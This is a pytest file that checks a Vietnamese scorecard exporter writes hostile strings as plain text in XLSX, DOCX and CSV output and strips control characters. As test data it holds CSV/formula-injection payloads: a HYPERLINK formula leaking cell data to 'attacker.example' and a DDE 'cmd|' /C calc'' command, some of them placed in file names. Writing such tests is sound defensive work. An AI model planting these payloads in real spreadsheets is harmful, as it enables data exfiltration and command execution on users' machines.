"""Hostile text in a scorecard — formula-looking unit names, file names and quotes, control characters —
is written as plain text and never breaks the XLSX or DOCX (issues 13.6 and 13.7)."""

from __future__ import annotations

import io

import pytest
from docx import Document
from openpyxl import load_workbook

from extractor.criteria import export

from .cards import card

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
)


def hostile_card() -> dict:
    built = card(unit=FORMULAS[0])
    built["documents"] = [f"{FORMULAS[1]}.pdf"]
    for index, row in enumerate(built["criteria"]):
        for quote in row["evidence"]:
            quote["document"] = f"{FORMULAS[1]}.pdf"
            quote["text"] = FORMULAS[index % len(FORMULAS)]
        row["reasons"] = [FORMULAS[2]]
    built["criteria"][0]["title"] = FORMULAS[3]
    return built


def test_no_cell_of_the_workbook_is_a_formula_and_the_text_survives():
    stream = io.BytesIO()
    export.to_xlsx(hostile_card(), stream)
    book = load_workbook(io.BytesIO(stream.getvalue()))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert FORMULAS[0] in texts  # the unit name, verbatim, as text
    assert any(text.startswith(FORMULAS[1]) for text in texts)  # the file name
    assert {FORMULAS[2], FORMULAS[3]} <= texts
    starting = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@"]
    assert starting and all(cell.data_type == "s" and cell.quotePrefix for cell in starting)


CONTROL = "UBND xã\x0b Chiềng\x00 Cơi\x1f\x0c"


@pytest.mark.parametrize("writer", [export.to_xlsx, export.to_docx])
def test_control_characters_are_cleaned_not_fatal(writer):
    built = card(unit=CONTROL)
    built["criteria"][0]["evidence"][0]["text"] = "Không xảy ra\x0b vụ việc\x08 nào"
    built["criteria"][0]["reasons"] = ["lý do\x01"]
    stream = io.BytesIO()
    writer(built, stream)  # raised IllegalCharacterError / ValueError before
    data = io.BytesIO(stream.getvalue())
    if writer is export.to_xlsx:
        text = "\n".join(
            str(cell.value)
            for sheet in load_workbook(data).worksheets
            for line in sheet.iter_rows()
            for cell in line
            if cell.value is not None
        )
    else:
        word = Document(data)
        text = "\n".join(
            [p.text for p in word.paragraphs]
            + [cell.text for table in word.tables for line in table.rows for cell in line.cells]
        )
    assert "UBND xã Chiềng Cơi" in text and "Không xảy ra vụ việc nào" in text
    assert not any(ord(char) < 32 and char not in "\t\n\r" for char in text)


def _api_exports():
    """``api/exports.py`` of this checkout: under pytest ``tests/api`` is importable as ``api`` (tests/ is on
    sys.path), so ``import api.exports`` would find another checkout's module through the editable install."""
    import importlib.util
    from pathlib import Path

    import extractor

    path = Path(extractor.__file__).resolve().parents[1] / "api" / "exports.py"
    spec = importlib.util.spec_from_file_location("checkout_api_exports", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_api_downloads_clean_the_card_at_the_edge():
    exports = _api_exports()
    layer_card, scorecard_docx, scorecard_xlsx = (
        exports.layer_card,
        exports.scorecard_docx,
        exports.scorecard_xlsx,
    )

    base = card()
    api_card = {
        "unit": {"name": "Trường\x0b THPT\x00 Việt Bắc"},
        "year": 2024,
        "subject_type": "co_quan",
        "documents": ["=cmd|' /C calc'!A0.pdf"],
        "overall": base["overall"],
        "criteria": [
            {
                "id": row["id"],
                "title_vi": row["title"],
                "title_en": row["title_en"],
                "proposed": row["status"],
                "confidence": row["confidence"],
                "needs_assessor": row["needs_assessor"],
                "reasons": row["reasons"],
                "quotes": row["evidence"],
                "decision": None,
            }
            for row in base["criteria"]
        ],
    }
    assert layer_card(api_card)["unit"] == "Trường THPT Việt Bắc"
    book = load_workbook(io.BytesIO(scorecard_xlsx(api_card)))
    assert book["Phiếu đánh giá"]["B1"].value == "Trường THPT Việt Bắc"
    assert not [
        cell
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert any(
        "Trường THPT Việt Bắc" in p.text for p in Document(io.BytesIO(scorecard_docx(api_card))).paragraphs
    )


def test_the_audit_table_writes_hostile_text_as_text(tmp_path):
    import csv

    from extractor.forms import audit_table

    unit = {
        "unit": '=HYPERLINK("http://x")\x0b',
        "year": 2024,
        "subject_type": "xa",
        "article": 5,
        "documents": ["a.pdf"],
        "unsupported": [
            {"id": "TT124.5.1", "title": "+Tiêu chí", "status": "missing", "reasons": ["-lý do"]}
        ],
        "partially_supported": [],
        "contradicted": [],
        "targets_without_results": [],
        "missing_documents": [
            {"stage": "recognition", "document": "bien_ban", "title_vi": "@Biên bản", "conditional": False}
        ],
        "deadlines": [],
        "overall": {"proposal": "chua_du_can_cu", "label_vi": "Chưa đủ căn cứ"},
    }
    report = {"units": [unit]}
    path = tmp_path / "ra-soat.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        audit_table.write_csv(report, handle)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][0] == '\'=HYPERLINK("http://x") ' and rows[1][6].startswith("'+Tiêu chí")
    assert rows[2][6] == "'@Biên bản"
    book_path = audit_table.write_xlsx(report, tmp_path / "ra-soat.xlsx")
    book = load_workbook(book_path)
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert book["Rà soát hồ sơ"]["A2"].value == '=HYPERLINK("http://x") '
